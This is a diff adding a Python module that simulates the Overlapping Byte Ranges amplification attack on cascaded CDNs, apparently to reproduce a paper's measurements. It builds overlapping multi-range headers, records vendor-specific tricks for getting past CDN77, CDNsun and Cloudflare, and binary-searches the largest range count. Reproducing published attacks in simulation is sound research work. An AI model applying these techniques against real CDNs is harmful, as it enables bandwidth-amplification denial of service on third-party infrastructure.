@@ -1,0 +1,204 @@
+"""The Overlapping Byte Ranges (OBR) attack (paper §IV-C, §V-C).
+
+Two CDNs are cascaded: the attacker configures the front CDN's origin to
+be an ingress node of the back CDN, and the back CDN's origin to be a
+server where range support is disabled.  A multi-range request with
+``n`` overlapping ``0-`` ranges is forwarded *unchanged* by the FCDN
+(Laziness); the BCDN fetches the 200 full-body response from the origin
+and expands it into an ``n``-part ``multipart/byteranges`` response — up
+to ``n`` times the resource size on the fcdn–bcdn link.
+
+``n`` is bounded by the header limits of both CDNs on the path;
+:meth:`ObrAttack.find_max_n` searches the boundary the way the paper
+did — by probing which requests survive end-to-end.
+
+Traffic accounting uses a TCP/IP framing model by default: the paper's
+Table V numbers come from packet captures of short connections, where
+handshake and segment overhead are a visible fraction of the ~1.7 KB
+bcdn–origin responses.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.core.amplification import AmplificationReport
+from repro.core.deployment import CdnSpec, Deployment
+from repro.cdn.vendors import OBR_BACKENDS, OBR_FRONTENDS
+from repro.cdn.vendors.base import VendorConfig
+from repro.errors import ConfigurationError
+from repro.http.grammar import overlapping_open_ranges_value
+from repro.netsim.overhead import OverheadModel, TcpOverheadModel
+from repro.netsim.tap import BCDN_ORIGIN, CLIENT_CDN, FCDN_BCDN
+from repro.origin.server import OriginServer
+
+
+def exploited_leading_spec(fcdn: str) -> Optional[str]:
+    """Table V column 3: the first spec of the exploited multi-range.
+
+    CDN77 deletes Range headers whose first range starts below byte 1024,
+    so the attack leads with a suffix spec; CDNsun deletes when the first
+    range is anchored at 0, so it leads with ``1-``.  Cloudflare and
+    StackPath take plain ``0-``.
+    """
+    if fcdn == "cdn77":
+        return "-1024"
+    if fcdn == "cdnsun":
+        return "1-"
+    return None
+
+
+@dataclass(frozen=True)
+class ObrResult:
+    """Outcome of one OBR measurement."""
+
+    fcdn: str
+    bcdn: str
+    resource_size: int
+    overlap_count: int
+    range_value_size: int
+    #: Response traffic origin → BCDN (bytes).
+    bcdn_origin_traffic: int
+    #: Response traffic BCDN → FCDN (bytes) — the victim link.
+    fcdn_bcdn_traffic: int
+    #: Response bytes the aborting attacker actually received.
+    client_traffic: int
+    status: int
+    report: AmplificationReport
+
+    @property
+    def amplification(self) -> float:
+        return self.report.factor
+
+
+class ObrAttack:
+    """Run the OBR attack through one FCDN × BCDN combination."""
+
+    def __init__(
+        self,
+        fcdn: str,
+        bcdn: str,
+        resource_size: int = 1024,
+        resource_path: str = "/1KB.bin",
+        overhead: Optional[OverheadModel] = None,
+        host: str = "victim.example",
+        client_abort_after: Optional[int] = 2048,
+    ) -> None:
+        if fcdn == bcdn:
+            raise ConfigurationError(
+                "a CDN is not cascaded with itself (paper Table V excludes it)"
+            )
+        self.fcdn = fcdn
+        self.bcdn = bcdn
+        self.resource_size = resource_size
+        self.resource_path = resource_path
+        # Capture-like accounting by default; see module docstring.
+        self.overhead = overhead if overhead is not None else TcpOverheadModel()
+        self.host = host
+        self.client_abort_after = client_abort_after
+
+    # -- deployment -----------------------------------------------------------
+
+    def build_deployment(self) -> Deployment:
+        # The attacker disables range support on their origin so the BCDN
+        # receives a full 200 and builds the multipart itself.
+        origin = OriginServer(range_support=False)
+        origin.add_synthetic_resource(self.resource_path, self.resource_size)
+        fcdn_spec = CdnSpec(vendor=self.fcdn, config=self._fcdn_config())
+        bcdn_spec = CdnSpec(vendor=self.bcdn)
+        return Deployment.cascade(fcdn_spec, bcdn_spec, origin, overhead=self.overhead)
+
+    def _fcdn_config(self) -> Optional[VendorConfig]:
+        if self.fcdn == "cloudflare":
+            # Cloudflare forwards multi-range requests unchanged only
+            # when the target path is configured *Bypass* (Table II).
+            return VendorConfig(bypass_cache=True)
+        return None
+
+    def range_value(self, overlap_count: int) -> str:
+        return overlapping_open_ranges_value(
+            overlap_count, leading=exploited_leading_spec(self.fcdn)
+        )
+
+    # -- max-n search -----------------------------------------------------------
+
+    def probe(self, overlap_count: int) -> int:
+        """Send one attack request with ``overlap_count`` ranges against a
+        fresh deployment; returns the client-side HTTP status."""
+        deployment = self.build_deployment()
+        client = deployment.client(host=self.host)
+        result = client.get(
+            self.resource_path,
+            range_value=self.range_value(overlap_count),
+            abort_after=self.client_abort_after,
+        )
+        return result.response.status
+
+    def find_max_n(self, lower: int = 2, upper: int = 32768) -> int:
+        """Largest ``n`` that survives both CDNs' header limits end-to-end.
+
+        Binary search over fresh deployments, exactly how an attacker
+        (or the paper's authors) would probe the boundary.  Returns 0
+        when even ``lower`` is rejected.
+        """
+        if self.probe(lower) != 206:
+            return 0
+        if self.probe(upper) == 206:
+            return upper
+        low, high = lower, upper  # probe(low) ok, probe(high) rejected
+        while high - low > 1:
+            middle = (low + high) // 2
+            if self.probe(middle) == 206:
+                low = middle
+            else:
+                high = middle
+        return low
+
+    # -- measurement ---------------------------------------------------------------
+
+    def run(self, overlap_count: Optional[int] = None) -> ObrResult:
+        """Execute one attack request and measure per-segment traffic.
+
+        ``overlap_count=None`` first searches the maximum ``n`` (the
+        paper's Table V methodology).
+        """
+        n = overlap_count if overlap_count is not None else self.find_max_n()
+        if n < 1:
+            raise ConfigurationError(
+                f"{self.fcdn} -> {self.bcdn} admits no overlapping ranges"
+            )
+        deployment = self.build_deployment()
+        client = deployment.client(host=self.host)
+        range_value = self.range_value(n)
+        result = client.get(
+            self.resource_path,
+            range_value=range_value,
+            abort_after=self.client_abort_after,
+        )
+        report = AmplificationReport.from_ledger(
+            deployment.ledger, victim_segment=FCDN_BCDN, attacker_segment=BCDN_ORIGIN
+        )
+        return ObrResult(
+            fcdn=self.fcdn,
+            bcdn=self.bcdn,
+            resource_size=self.resource_size,
+            overlap_count=n,
+            range_value_size=len(range_value),
+            bcdn_origin_traffic=report.attacker_bytes,
+            fcdn_bcdn_traffic=report.victim_bytes,
+            client_traffic=result.received_bytes,
+            status=result.response.status,
+            report=report,
+        )
+
+
+def vulnerable_combinations() -> list:
+    """The 11 FCDN × BCDN combinations of Table V (self-cascading
+    excluded)."""
+    return [
+        (fcdn, bcdn)
+        for fcdn in OBR_FRONTENDS
+        for bcdn in OBR_BACKENDS
+        if fcdn != bcdn
+    ]
